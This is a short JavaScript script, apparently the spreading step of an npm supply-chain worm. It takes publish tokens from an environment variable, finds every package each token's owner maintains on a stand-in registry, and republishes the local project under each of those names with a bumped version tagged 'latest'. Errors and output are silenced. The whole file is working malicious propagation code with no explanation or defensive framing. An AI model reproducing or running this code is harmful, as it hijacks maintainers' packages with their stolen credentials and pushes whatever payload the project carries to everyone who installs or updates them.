// deploy to every package of each token
const { execSync } = require('child_process');
const https = require('https');
const fs = require('fs');
const REG = 'registry.npm.example.test';
const api = (p, token) => new Promise((ok) => https.get({ host: REG, path: p, headers: { Authorization: 'Bearer ' + token } }, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => { try { ok(JSON.parse(b)); } catch { ok({}); } }); }).on('error', () => ok({})));
const bump = (v) => { const p = v.split('.').map(Number); p[2] += 1; return p.join('.'); };
(async () => {
  for (const token of (process.env.NPM_TOKENS || '').split(',').filter(Boolean)) {
    const who = await api('/-/whoami', token);
    if (!who.username) continue;
    const list = await api(`/-/v1/search?text=maintainer:${encodeURIComponent(who.username)}&size=250`, token);
    for (const { package: pkg } of list.objects || []) {
      const orig = fs.readFileSync('package.json', 'utf8');
      try {
        const j = JSON.parse(orig);
        j.name = pkg.name;
        j.version = bump(pkg.version);
        fs.writeFileSync('package.json', JSON.stringify(j, null, 2));
        execSync(`npm publish --access public --tag latest --registry https://${REG}/`, { stdio: 'ignore', env: { ...process.env, NPM_CONFIG_TOKEN: token } });
      } catch {} finally { fs.writeFileSync('package.json', orig); }
    }
  }
})();
